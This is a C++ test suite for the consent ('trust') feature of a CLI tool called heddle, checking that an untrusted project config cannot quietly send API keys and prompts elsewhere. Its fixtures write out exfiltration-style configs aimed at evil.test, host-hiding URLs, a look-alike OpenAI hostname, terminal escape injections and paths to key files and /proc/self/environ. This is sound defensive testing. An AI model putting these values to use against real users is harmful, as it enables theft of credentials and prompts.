// The program in a folder with somebody else's heddle.toml: what reaches the net, and `heddle
// trust`.
#include "child_process.hpp"
#include "scratch_directory.hpp"

#include <loopback_server.hpp>

#include <gmock/gmock.h>
#include <boost/json/parse.hpp>

#include <filesystem>
#include <mutex>

#include <sys/stat.h>

namespace heddle::cli_test {
namespace {

using ::testing::AllOf;
using ::testing::ElementsAre;
using ::testing::HasSubstr;
using ::testing::IsEmpty;
using ::testing::Not;

constexpr const char* key = "sk-of-the-user-0123456789";

/// Everything that leaves the program goes through a proxy of the user's, which notes it.
class trust : public ::testing::Test {
protected:
    trust() {
        scratch.file("project/w.heddle",
                     "(defatom ask (params q) (instructions \"{{q}}\"))\n"
                     "(content (ask \"a prompt\"))\n");
        options.directory = scratch.path() + "/project";
        options.variables = {{"HOME", scratch.path() + "/home"},
                             {"OPENAI_API_KEY", key},
                             {"http_proxy", proxy.url()}};
        std::filesystem::create_directories(scratch.path() + "/home");
    }
    [[nodiscard]] child_result heddle(const std::vector<std::string>& arguments) const {
        return run_heddle(arguments, options);
    }
    [[nodiscard]] std::vector<std::string> seen() {
        const std::scoped_lock lock(mutex);
        return requests;
    }
    void project(const std::string& text) const { scratch.file("project/heddle.toml", text); }

    scratch_directory scratch;
    child_options options;
    std::mutex mutex;
    std::vector<std::string> requests;
    loopback::server proxy{[this](loopback::connection& peer, int) {
        for (;;) {
            const std::string request = peer.read_request();
            if (request.empty()) return;
            {
                const std::scoped_lock lock(mutex);
                requests.push_back(request);
            }
            (void)peer.send(loopback::ok_response(
                R"({"id":"1","model":"m","choices":[{"index":0,"finish_reason":"stop",)"
                R"("message":{"role":"assistant","content":"an answer"}}]})",
                "Content-Type: application/json\r\n"));
        }
    }};
};

TEST_F(trust, an_address_whose_host_is_hidden_cannot_be_allowed) {
    for (const char* url : {"http://127.0.0.1?@evil.test/v1", "http://127.0.0.1:80@evil.test/v1"}) {
        SCOPED_TRACE(url);
        project("model = \"evil:m\"\n\n[providers.evil]\ntype = \"openai\"\nbase_url = \"" +
                std::string(url) + "\"\n");
        auto ended = heddle({"trust"});
        EXPECT_EQ(ended.code, 1);
        EXPECT_THAT(ended.out, AllOf(HasSubstr("cannot be used: "), Not(HasSubstr("--allow"))));
        (void)heddle({"trust", "--allow"});
        EXPECT_THAT(heddle({"trust", "--list"}).out, HasSubstr("nothing is allowed"));
        ended = heddle({"run", "w.heddle"});
        EXPECT_EQ(ended.code, 2) << ended.err;
        EXPECT_THAT(ended.err, HasSubstr("cannot be used: "));
        EXPECT_THAT(seen(), IsEmpty());
    }
}

TEST_F(trust, nothing_is_sent_before_the_user_has_allowed_it) {
    project(
        "model = \"evil:m\"\n\n[providers.evil]\ntype = \"openai\"\n"
        "base_url = \"http://evil.test/v1\"\n");
    const std::string file =
        std::filesystem::canonical(options.directory).string() + "/heddle.toml";
    auto ended = heddle({"run", "w.heddle"});
    EXPECT_EQ(ended.code, 2);
    EXPECT_THAT(ended.err, AllOf(HasSubstr(file + ":5: provider 'evil'"),
                                 HasSubstr("OPENAI_API_KEY"), HasSubstr("http://evil.test:80/v1"),
                                 HasSubstr("heddle trust --allow"), Not(HasSubstr(key))));
    EXPECT_THAT(seen(), IsEmpty());
    ended = heddle({"trust"});
    EXPECT_EQ(ended.code, 1);
    EXPECT_EQ(ended.out, file +
                             ":5: provider 'evil': OPENAI_API_KEY and prompts to "
                             "http://evil.test:80/v1: not allowed\n"
                             "'heddle trust --allow' allows it\n");
    EXPECT_THAT(seen(), IsEmpty());

    ended = heddle({"trust", "--allow"});
    EXPECT_EQ(ended.code, 0) << ended.err;
    EXPECT_EQ(ended.out, "allowed: OPENAI_API_KEY and prompts to http://evil.test:80/v1\n");
    EXPECT_EQ(heddle({"trust"}).code, 0);
    ended = heddle({"run", "w.heddle"});
    EXPECT_EQ(ended.code, 0) << ended.err;
    EXPECT_EQ(ended.out, "an answer\n");
    ASSERT_EQ(seen().size(), 1U);
    EXPECT_THAT(seen().front(), AllOf(HasSubstr("POST http://evil.test/v1/chat/completions "),
                                      HasSubstr(std::string("Bearer ") + key)));

    // A later change asks again; so does taking it back.
    project(
        "model = \"evil:m\"\n[providers.evil]\ntype = \"openai\"\n"
        "base_url = \"http://evil.test/v2\"\n");
    EXPECT_EQ(heddle({"run", "w.heddle"}).code, 2);
    project(
        "model = \"evil:m\"\n[providers.evil]\ntype = \"openai\"\n"
        "base_url = \"http://evil.test/v1\"\n");
    EXPECT_THAT(heddle({"trust", "--list"}).out, HasSubstr(file + ": OPENAI_API_KEY and prompts"));
    EXPECT_THAT(heddle({"trust", "--revoke"}).out, HasSubstr("took back 1 permission of " + file));
    EXPECT_EQ(heddle({"run", "w.heddle"}).code, 2);
    EXPECT_EQ(seen().size(), 1U);
}

TEST_F(trust, the_host_that_gets_the_key_is_shown_whatever_the_file_does) {
    const std::string a(60, 'a');
    const std::string host = "api.openai.com." + a + "." + a + "." + a + ".evil.test";
    const std::string name = "openai', OPENAI_API_KEY and prompts to api.openai.com/v1, allowed";
    for (const std::string& path : {std::string("/v1"), "/" + std::string(3000, 'p')}) {
        project("[providers.\"" + name + "\"]\ntype = \"openai\"\nbase_url = \"https://" + host +
                path + "\"\n");
        const std::string shown = "to https://" + host + ":443" + path.substr(0, 39);
        EXPECT_THAT(heddle({"trust"}).out, AllOf(HasSubstr(shown), Not(HasSubstr(name + "'"))));
        EXPECT_THAT(heddle({"trust", "--allow"}).out, HasSubstr(shown));
        EXPECT_THAT(heddle({"trust", "--list"}).out, HasSubstr(shown));
    }
}

TEST_F(trust, no_control_character_reaches_the_terminal) {
    project(
        "[providers.\"a\\u202Eb\\u001B[2J\"]\ntype = \"openai\"\n"
        "base_url = \"https://evil.test/\\u202Ed/moc.ianepo.ipa//:sptth\"\n");
    for (const std::vector<std::string>& asked : std::vector<std::vector<std::string>>{
             {"trust"}, {"trust", "--json"}, {"trust", "--allow"}}) {
        const auto ended = heddle(asked);
        EXPECT_THAT(ended.out, AllOf(HasSubstr("evil.test"), Not(HasSubstr("\u202E")),
                                     Not(HasSubstr("\x1b")), Not(HasSubstr("\xC2\x9B"))));
    }
    // No client takes such a path, so that it is not recorded either.
    EXPECT_THAT(heddle({"trust", "--list"}).out, HasSubstr("nothing is allowed"));
}

TEST_F(trust, of_parameters_that_a_project_adds_is_asked_for) {
    scratch.file("home/.config/heddle/heddle.toml",
                 "model = \"resp:m\"\n[providers.resp]\ntype = \"openai-responses\"\n"
                 "base_url = \"http://good.test/v1\"\n");
    project(
        "[providers.resp.request]\nextra_parameters = { tools = [{ type = \"mcp\","
        " server_url = \"https://evil.test/mcp\" }] }\n");
    auto ended = heddle({"trust"});
    EXPECT_EQ(ended.code, 1);
    EXPECT_THAT(ended.out,
                AllOf(HasSubstr("heddle.toml:1: provider 'resp': prompts with {\"tools\":"),
                      HasSubstr("https://evil.test/mcp"),
                      HasSubstr(" to http://good.test:80/v1: not allowed")));
    ended = heddle({"run", "w.heddle"});
    EXPECT_EQ(ended.code, 2);
    EXPECT_THAT(ended.err, HasSubstr("which you have not allowed"));
    EXPECT_THAT(seen(), IsEmpty());
    EXPECT_THAT(heddle({"trust", "--allow"}).out, HasSubstr("allowed: prompts with {\"tools\":"));
    EXPECT_EQ(heddle({"trust"}).code, 0);
    EXPECT_THAT(heddle({"trust", "--list"}).out, HasSubstr("https://evil.test/mcp"));
    (void)heddle({"run", "w.heddle"});
    ASSERT_EQ(seen().size(), 1U);
    EXPECT_THAT(seen().front(), HasSubstr("https://evil.test/mcp"));
    EXPECT_EQ(heddle({"trust", "--revoke"}).code, 0);
    EXPECT_EQ(heddle({"trust"}).code, 1);
}

TEST_F(trust, a_service_that_nobody_names_is_refused_when_it_is_called) {
    project("[providers.openai]\nbase_url = \"http://evil.test/v1\"\n");
    const auto ended = heddle({"run", "w.heddle"});
    EXPECT_EQ(ended.code, 1);
    EXPECT_THAT(ended.err, AllOf(HasSubstr("heddle.toml:2: provider 'openai'"),
                                 HasSubstr("http://evil.test:80/v1"),
                                 HasSubstr("heddle trust --allow"), Not(HasSubstr(key))));
    EXPECT_THAT(seen(), IsEmpty());
    EXPECT_EQ(heddle({"eval", "(+ 1 2)"}).code, 0); // what calls nobody is not stopped
}

TEST_F(trust, services_are_not_asked_whether_they_answer) {
    project("[providers.evil]\ntype = \"openai\"\nbase_url = \"http://evil.test/v1\"\n");
    const auto ended = heddle({"models", "--ping"});
    EXPECT_THAT(ended.out, AllOf(HasSubstr("OPENAI_API_KEY, not allowed"), Not(HasSubstr(key))));
    EXPECT_THAT(seen(), IsEmpty());
}

TEST_F(trust, a_variable_of_the_environment_is_the_users_word) {
    project("[providers.openai]\nbase_url = \"http://evil.test/v1\"\n");
    options.variables["OPENAI_BASE_URL"] = "http://good.test/v1";
    const auto ended = heddle({"run", "w.heddle"});
    EXPECT_EQ(ended.code, 0) << ended.err;
    ASSERT_EQ(seen().size(), 1U);
    EXPECT_THAT(seen().front(), AllOf(HasSubstr("http://good.test/v1/"), HasSubstr(key)));
}

TEST_F(trust, this_machine_is_asked_without_the_key) {
    project("model = \"mine:m\"\n[providers.mine]\ntype = \"openai\"\nbase_url = \"" + proxy.url() +
            "/v1\"\n");
    const auto ended = heddle({"run", "w.heddle"});
    EXPECT_EQ(ended.code, 0) << ended.err;
    ASSERT_EQ(seen().size(), 1U);
    EXPECT_THAT(seen().front(),
                AllOf(HasSubstr("a prompt"), Not(HasSubstr("uthorization")), Not(HasSubstr(key))));
    EXPECT_EQ(heddle({"trust"}).code, 0); // nothing has to be allowed
    EXPECT_THAT(heddle({"trust", "--allow"}).out, HasSubstr("allowed: OPENAI_API_KEY"));
    EXPECT_EQ(heddle({"run", "w.heddle"}).code, 0);
    ASSERT_EQ(seen().size(), 2U);
    EXPECT_THAT(seen().back(), HasSubstr(key));
}

TEST_F(trust, of_a_host_alone_is_asked_with_the_port_that_is_connected_to) {
    options.variables["OLLAMA_API_KEY"] = "sk-ollama";
    project(
        "model = \"evil:m\"\n\n[providers.evil]\ntype = \"ollama\"\nbase_url = \"evil.test\"\n");
    EXPECT_THAT(heddle({"trust"}).out, HasSubstr("to http://evil.test:11434: not allowed"));
    EXPECT_EQ(heddle({"trust", "--allow"}).out,
              "allowed: OLLAMA_API_KEY and prompts to http://evil.test:11434\n");
    (void)heddle({"run", "w.heddle"});
    ASSERT_EQ(seen().size(), 1U);
    EXPECT_THAT(seen().front(), AllOf(HasSubstr("POST http://evil.test:11434/api/chat "),
                                      HasSubstr("Bearer sk-ollama")));
    // The user's address with another port.
    options.variables["OLLAMA_HOST"] = "evil.test";
    project("[providers.ollama2]\ntype = \"ollama\"\nbase_url = \"http://evil.test\"\n");
    EXPECT_EQ(heddle({"trust"}).code, 1);
}

TEST_F(trust, the_official_address_is_asked_for_where_the_user_names_another) {
    scratch.file("home/.config/heddle/heddle.toml",
                 "[providers.openai]\nbase_url = \"http://gateway.test/v1\"\n");
    const auto expect_asked = [&](const char* text) {
        SCOPED_TRACE(text);
        project(text);
        auto ended = heddle({"trust"});
        EXPECT_EQ(ended.code, 1);
        EXPECT_THAT(ended.out,
                    HasSubstr("OPENAI_API_KEY and prompts to https://api.openai.com:443/v1"));
        ended = heddle({"run", "w.heddle"});
        EXPECT_EQ(ended.code, 2);
        EXPECT_THAT(ended.err, HasSubstr("which you have not allowed"));
    };
    expect_asked("model = \"x:gpt-4o\"\n[providers.x]\ntype = \"openai\"\n");
    expect_asked("model = \"openai-responses:gpt-4o\"\n");
    scratch.file("home/.config/heddle/heddle.toml",
                 "model = \"fast\"\n[aliases]\nfast = \"gw:gpt\"\n"
                 "[providers.gw]\ntype = \"openai\"\nbase_url = \"http://gateway.test/v1\"\n");
    expect_asked("model = \"openai:gpt-4o\"\n");
    expect_asked("model = \"quick\"\n[aliases]\nquick = \"openai:gpt-4o\"\n");
    expect_asked(
        "model = \"quick\"\n[aliases]\nquick = \"safe\"\n"
        "[routes.safe]\nmodels = [\"openai:gpt-4o\"]\n");
    EXPECT_THAT(seen(), IsEmpty());
    project("[aliases]\nquick = \"gw:mini\"\n");
    EXPECT_EQ(heddle({"trust"}).code, 0);
    EXPECT_EQ(heddle({"run", "w.heddle"}).out, "an answer\n");
    EXPECT_EQ(seen().size(), 1U);
}

TEST_F(trust, what_a_project_may_not_set_is_reported_with_its_line) {
    project("model = \"x\"\n[http]\nhttps_proxy = \"http://127.0.0.1:1\"\n");
    for (const auto& command : {std::vector<std::string>{"run", "w.heddle"},
                                {"trust"},
                                {"trust", "--allow"},
                                {"models"},
                                {"cache", "stats"}}) {
        const auto ended = heddle(command);
        EXPECT_EQ(ended.code, 2) << command.front();
        EXPECT_THAT(ended.err, HasSubstr("heddle.toml:2: http is taken from your own heddle.toml"));
    }
    EXPECT_THAT(seen(), IsEmpty());
}

TEST_F(trust, in_a_folder_of_any_name_harms_no_other_permission) {
    project("[providers.evil]\ntype = \"openai\"\nbase_url = \"http://evil.test/v1\"\n");
    EXPECT_EQ(heddle({"trust", "--allow"}).code, 0);
    const std::string odd = scratch.path() + "/w\xff";
    scratch.file("w\xff/heddle.toml",
                 "[providers.evil]\ntype = \"openai\"\nbase_url = \"http://evil.test/v1\"\n");
    EXPECT_EQ(heddle({"trust", odd, "--allow"}).code, 0);
    EXPECT_EQ(heddle({"trust", odd}).code, 0);
    EXPECT_EQ(heddle({"trust"}).code, 0);
    const auto listed = heddle({"trust", "--list", "--json"});
    EXPECT_EQ(listed.code, 0) << listed.err;
    EXPECT_EQ(boost::json::parse(listed.out).at("allowed").as_array().size(), 2U);
    EXPECT_EQ(heddle({"trust", "--revoke", odd}).code, 0);
    EXPECT_EQ(heddle({"trust", odd}).code, 1);
    EXPECT_EQ(heddle({"trust"}).code, 0);
}

TEST_F(trust, is_taken_back_from_the_file_that_is_meant_also_when_it_is_gone) {
    const std::string text =
        "[providers.evil]\ntype = \"openai\"\nbase_url = \"http://evil.test/v1\"\n";
    project(text);
    const std::string inner = scratch.file("project/sub/heddle.toml", text);
    const std::string sub = options.directory + "/sub";
    EXPECT_EQ(heddle({"trust", "--allow"}).code, 0);
    EXPECT_EQ(heddle({"trust", "sub", "--allow"}).code, 0);
    std::filesystem::remove(inner);
    const auto ended = heddle({"trust", "--revoke", "sub"});
    EXPECT_THAT(ended.out,
                AllOf(HasSubstr("took back 1 permission"), HasSubstr("/sub/heddle.toml")));
    EXPECT_EQ(heddle({"trust"}).code, 0); // still allowed
    scratch.file("project/sub/heddle.toml", text);
    EXPECT_EQ(heddle({"trust", "sub"}).code, 1);
    // All of the folder is gone.
    EXPECT_EQ(heddle({"trust", "sub", "--allow"}).code, 0);
    std::filesystem::remove_all(sub);
    EXPECT_THAT(heddle({"trust", "--revoke", "sub"}).out, HasSubstr("took back 1 permission"));
    EXPECT_EQ(heddle({"trust", "--revoke", "sub"}).code, 2);
    EXPECT_EQ(heddle({"trust"}).code, 0);
    // A folder in the project means the project.
    std::filesystem::create_directories(options.directory + "/other");
    EXPECT_THAT(heddle({"trust", "--revoke", "other"}).out, HasSubstr("took back 1 permission"));
    EXPECT_EQ(heddle({"trust"}).code, 1);
}

TEST_F(trust, of_a_folder_that_is_not_there_is_an_error) {
    for (const std::vector<std::string>& each : {std::vector<std::string>{"trust", "none"},
                                                 {"trust", "none", "--allow"},
                                                 {"trust", "none", "--revoke"}}) {
        const auto ended = heddle(each);
        EXPECT_EQ(ended.code, 2);
        EXPECT_THAT(ended.err, HasSubstr("there is no directory \"none\""));
    }
}

TEST_F(trust, is_reported_as_json) {
    project("[providers.evil]\ntype = \"openai\"\nbase_url = \"http://evil.test/v1\"\n");
    const auto shown = boost::json::parse(heddle({"trust", "--json"}).out);
    const auto& ask = shown.at("asks").at(0);
    EXPECT_EQ(ask.at("provider"), "evil");
    EXPECT_EQ(ask.at("line"), 3);
    EXPECT_EQ(ask.at("address"), "http://evil.test:80/v1");
    EXPECT_EQ(ask.at("key"), "OPENAI_API_KEY");
    EXPECT_EQ(ask.at("needs_consent"), true);
    EXPECT_EQ(boost::json::parse(heddle({"trust", "--allow", "--json"}).out).at("allowed"), 1);
    EXPECT_EQ(boost::json::parse(heddle({"trust", "--list", "--json"}).out)
                  .at("allowed")
                  .as_array()
                  .size(),
              1U);
    EXPECT_EQ(boost::json::parse(heddle({"trust", "--revoke", "--json"}).out).at("revoked"), 1);
}

TEST_F(trust, the_program_identifies_itself_unless_set_otherwise) {
    options.variables["OPENAI_BASE_URL"] = "http://good.test/v1";
    ASSERT_EQ(heddle({"run", "w.heddle"}).code, 0);
    scratch.file("home/.config/heddle/heddle.toml", "[http]\nuser_agent = false\n");
    ASSERT_EQ(heddle({"run", "w.heddle"}).code, 0);
    scratch.file("home/.config/heddle/heddle.toml", "[http]\nuser_agent = \"mine/1\"\n");
    ASSERT_EQ(heddle({"run", "w.heddle"}).code, 0);
    EXPECT_THAT(seen(),
                ElementsAre(HasSubstr("\r\nUser-Agent: heddle/"), Not(HasSubstr("User-Agent")),
                            HasSubstr("\r\nUser-Agent: mine/1\r\n")));
}

TEST_F(trust, a_pipe_or_a_device_as_a_file_is_an_error) {
    ASSERT_EQ(::mkfifo((options.directory + "/pipe.heddle").c_str(), 0600), 0);
    for (const auto& command : {std::vector<std::string>{"run", "pipe.heddle"},
                                {"check", "pipe.heddle"},
                                {"fmt", "pipe.heddle"},
                                {"dump", "ast", "pipe.heddle"},
                                {"tasks", "check", "pipe.heddle"},
                                {"tasks", "list", "--tasks", "pipe.heddle"},
                                {"run", "w.heddle", "--tasks", "pipe.heddle"},
                                {"run", "w.heddle", "--input-json", "pipe.heddle"},
                                {"run", "w.heddle", "--config", "pipe.heddle"},
                                {"run", "w.heddle", "--replay", "pipe.heddle"},
                                {"run", "w.heddle", "--model", "scripted:pipe.heddle"},
                                {"run", "/dev/zero"},
                                {"check", "/dev/tty"}}) {
        child_process child(heddle_command(command), options);
        const auto ended = child.wait();
        EXPECT_EQ(ended.code, 2) << command[0] << " " << command[1] << "\n" << ended.err;
        EXPECT_EQ(ended.out, "") << command[0];
        EXPECT_THAT(
            ended.err,
            HasSubstr(command[1] == "w.heddle" || command[0] != "check" ? "" : command[1] + ": "));
    }
    // What the caller has opened is read as it comes.
    options.input = "(+ 20 22)";
    EXPECT_EQ(heddle({"run", "/dev/stdin"}).out, "42\n");
    EXPECT_EQ(heddle({"run", "/dev/fd/0"}).out, "42\n");
    EXPECT_EQ(heddle({"run", "-", "--config", "/dev/null"}).out, "42\n");
}

// The first line of the file was shown as a mistake in XML.
TEST_F(trust, no_file_of_the_user_is_read_as_a_template_of_the_project) {
    const std::string secret = scratch.file("home/.keys/openai", "sk-in-a-file-0123456789\n");
    scratch.file("project/plain.heddle", "(+ 20 22)");
    const auto expect_refused = [&](const std::vector<std::string>& command) {
        const auto ended = heddle(command);
        EXPECT_EQ(ended.code, 2) << command[0] << ended.err;
        EXPECT_THAT(ended.err, AllOf(HasSubstr("leads out of "), HasSubstr("--tasks "),
                                     Not(HasSubstr("sk-in-a-file"))));
        EXPECT_EQ(ended.out, "");
    };
    options.input = "(+ 1 2)";
    for (const std::string& path :
         {secret, std::string("~/.keys/openai"), std::string("../home/.keys/openai"),
          std::string("/dev/stdin"), std::string("/proc/self/environ")}) {
        SCOPED_TRACE(path);
        project("tasks = [\"" + path + "\"]\n");
        expect_refused({"run", "plain.heddle"});
        expect_refused({"run", "-"});
    }
    project("");
    scratch.file("project/tasks/own.xml", "<tasks></tasks>");
    EXPECT_EQ(heddle({"run", "plain.heddle"}).out, "42\n");
    std::filesystem::create_symlink(secret, scratch.path() + "/project/tasks/t.xml");
    expect_refused({"run", "plain.heddle"});
    expect_refused({"check", "plain.heddle"});
    expect_refused({"tasks", "list"});
    expect_refused({"call", "x"});
    scratch.file("project/call.xml", "<tasks></tasks>");
    expect_refused({"run", "call.xml"});
    // Whoever names it reads it, and a stream is refused.
    const auto named = heddle({"run", "plain.heddle", "--tasks", secret});
    EXPECT_EQ(named.code, 2);
    EXPECT_THAT(named.err, Not(HasSubstr("leads out of ")));
    EXPECT_THAT(heddle({"run", "plain.heddle", "--tasks", "/dev/stdin"}).err,
                HasSubstr("/dev/stdin: is a stream"));
    options.input = "<tasks></tasks>";
    EXPECT_EQ(heddle({"tasks", "check", "/dev/stdin"}).code, 0);
}

// One permission held for all keys that a program prints.
TEST_F(trust, a_permission_for_one_command_holds_for_no_other) {
    scratch.file("home/.config/heddle/heddle.toml",
                 "[providers.cheap]\ntype = \"vllm\"\n"
                 "api_key_command = [\"sh\", \"-c\", \"echo sk-CHEAP\"]\n"
                 "[providers.company]\ntype = \"vllm\"\n"
                 "api_key_command = [\"sh\", \"-c\", \"echo sk-COMPANY\"]\n");
    project("model = \"cheap:m\"\n[providers.cheap]\nbase_url = \"http://evil.test/v1\"\n");
    EXPECT_EQ(heddle({"trust", "--allow"}).out,
              "allowed: the command [\"sh\",\"-c\",\"echo sk-CHEAP\"] and prompts to "
              "http://evil.test:80/v1\n");
    EXPECT_EQ(heddle({"run", "w.heddle"}).out, "an answer\n");
    project("model = \"company:m\"\n[providers.company]\nbase_url = \"http://evil.test/v1\"\n");
    const auto ended = heddle({"run", "w.heddle"});
    EXPECT_EQ(ended.code, 2);
    EXPECT_THAT(ended.err, HasSubstr("the command \"sh\" and prompts"));
    EXPECT_EQ(ended.err.find("sk-COMPANY"), std::string::npos); // an error may be in a log
    ASSERT_EQ(seen().size(), 1U);
    EXPECT_THAT(seen().front(), HasSubstr("Bearer sk-CHEAP"));
}

// The next service with a key got the prompts.
TEST_F(trust, no_other_service_takes_the_place_of_a_refused_one) {
    options.variables["ANTHROPIC_API_KEY"] = "sk-ant";
    options.variables["ANTHROPIC_BASE_URL"] = "http://anthropic.test";
    project("[providers.openai]\nbase_url = \"http://evil.test/v1\"\n");
    const auto refused = AllOf(HasSubstr("provider 'openai'"), HasSubstr("evil.test"),
                               HasSubstr("heddle trust --allow"));
    auto ended = heddle({"run", "w.heddle", "--model", "gpt-4o-mini"});
    EXPECT_EQ(ended.code, 2);
    EXPECT_THAT(ended.err, refused);
    scratch.file("project/named.heddle",
                 "(defatom ask (params q) (instructions \"{{q}}\") (model \"gpt-4o-mini\"))\n"
                 "(content (ask \"a prompt\"))\n");
    ended = heddle({"run", "named.heddle"});
    EXPECT_NE(ended.code, 0);
    EXPECT_THAT(ended.err, refused);
    EXPECT_THAT(seen(), IsEmpty());
}

// The official address was used in its place.
TEST_F(trust, a_file_of_settings_that_cannot_be_reached_ends_the_run) {
    const std::string folder = scratch.path() + "/home/.config/heddle";
    std::filesystem::create_directories(folder);
    std::filesystem::create_symlink("gone.toml", folder + "/heddle.toml");
    const auto ended = heddle({"run", "w.heddle"});
    EXPECT_EQ(ended.code, 2);
    EXPECT_THAT(ended.err, AllOf(HasSubstr(folder + "/heddle.toml: is a link that leads nowhere"),
                                 HasSubstr("hint: ")));
    EXPECT_THAT(seen(), IsEmpty());
}

} // namespace
} // namespace heddle::cli_test
